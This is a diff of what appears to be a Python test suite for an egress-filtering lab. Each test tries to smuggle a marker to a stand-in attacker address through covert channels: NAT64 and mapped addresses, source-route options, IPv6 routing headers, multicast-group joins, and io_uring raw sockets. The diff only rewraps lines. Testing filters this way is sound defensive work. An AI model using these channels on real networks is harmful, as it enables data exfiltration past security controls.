@@ -67,7 +67,8 @@ def mapped_udp(t):
     t.socket().sendto(t.marker, ("::ffff:203.0.113.66", t.port))
 
 
-@attack(THEME, "a translated address (64:ff9b::/96)", *REFUSED_NAME, families=(6,), unseen="it is a bare SYN: see translated_udp")
+@attack(THEME, "a translated address (64:ff9b::/96)", *REFUSED_NAME, families=(6,),
+        unseen="it is a bare SYN: see translated_udp")
 def translated_tcp(t):
     t.connected("64:ff9b::203.0.113.66", t.port, 0.5).send(t.marker)
 
@@ -149,7 +150,8 @@ def udp_zerocopy(t):
     s.sendto(t.marker * 512, MSG_ZEROCOPY, (t.to, t.port))
 
 
-@attack(THEME, "splice() from a pipe into a UDP socket connected to an allowed address", "cgroup", "protocol-not-allowed")
+@attack(THEME, "splice() from a pipe into a UDP socket connected to an allowed address", "cgroup",
+        "protocol-not-allowed")
 def splice(t):
     s = t.socket()
     s.connect((t.allowed, 443))
@@ -194,7 +196,8 @@ def bound_to_uplink(t):
     s.sendto(t.marker, (t.to, t.port))
 
 
-@attack(THEME, "a socket bound to loopback that sends to the attacker", *REFUSED_KIND, unseen="the kernel drops it on loopback")
+@attack(THEME, "a socket bound to loopback that sends to the attacker", *REFUSED_KIND,
+        unseen="the kernel drops it on loopback")
 def bound_to_loopback(t):
     s = t.socket()
     s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo\0")
@@ -243,8 +246,9 @@ def mark(t):
     s.sendto(t.marker, (t.to, t.port))
 
 
-@attack(THEME, "a loose source route by way of the attacker (IP_OPTIONS), to an allowed address", "cgroup", "source-route",
-        families=(4,), unseen="the lab's hosts take no source route, so that no connection comes up to carry the data")
+@attack(THEME, "a loose source route by way of the attacker (IP_OPTIONS), to an allowed address", "cgroup",
+        "source-route", families=(4,),
+        unseen="the lab's hosts take no source route, so that no connection comes up to carry the data")
 def socket_source_route(t):
     s = t.socket(socket.SOCK_STREAM, timeout=0.5)
     s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, bytes([131, 7, 4]) + packed(t.to) + b"\1")
@@ -255,7 +259,8 @@ def socket_source_route(t):
 @attack(THEME, "a segment-routing header set on the socket (IPV6_RTHDR)", "cgroup", "source-route", families=(6,))
 def socket_routing_header(t):
     s = t.socket()
-    header = struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + packed(t.resolver if ":" in t.resolver else t.allowed) + packed(t.to)
+    by = packed(t.resolver if ":" in t.resolver else t.allowed)
+    header = struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + by + packed(t.to)
     s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
     s.connect((t.allowed, 443))
     s.send(t.marker)
@@ -291,8 +296,8 @@ def broadcast(t):
         raise error
 
 
-@attack(THEME, "the data as a multicast group to join: the kernel reports it by IGMP or MLD", "uplink", "protocol-not-allowed",
-        container=ends(BRIDGE))
+@attack(THEME, "the data as a multicast group to join: the kernel reports it by IGMP or MLD", "uplink",
+        "protocol-not-allowed", container=ends(BRIDGE))
 def multicast_join(t):
     s = t.socket()
     index = socket.if_nametoindex("eth0")
@@ -300,7 +305,8 @@ def multicast_join(t):
         group = bytes([239, *t.marker[2:5]])
         s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("=4s4si", group, bytes(4), index))
     else:
-        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, b"\xff\x05" + bytes(6) + t.marker + struct.pack("=I", index))
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
+                     b"\xff\x05" + bytes(6) + t.marker + struct.pack("=I", index))
     time.sleep(1.2)     # IGMPv3 and MLDv2 wait for up to a second before they report
 
 
@@ -354,6 +360,7 @@ def ring_zerocopy(t):
 
 @attack(RING, "a raw socket made by the ring", "sock_create", "raw-socket", families=(4,))
 def ring_raw(t):
-    fd = Ring().call(45, socket.AF_INET, 0, socket.IPPROTO_RAW, socket.SOCK_RAW)    # IORING_OP_SOCKET: type in off, protocol in len
+    # IORING_OP_SOCKET: type in off, protocol in len
+    fd = Ring().call(45, socket.AF_INET, 0, socket.IPPROTO_RAW, socket.SOCK_RAW)
     data = craft.ip4(t.source, t.to, craft.UDP, craft.udp(t.source, t.to, 4444, t.port, t.marker))
     socket.socket(fileno=fd).sendto(data, (t.to, 0))
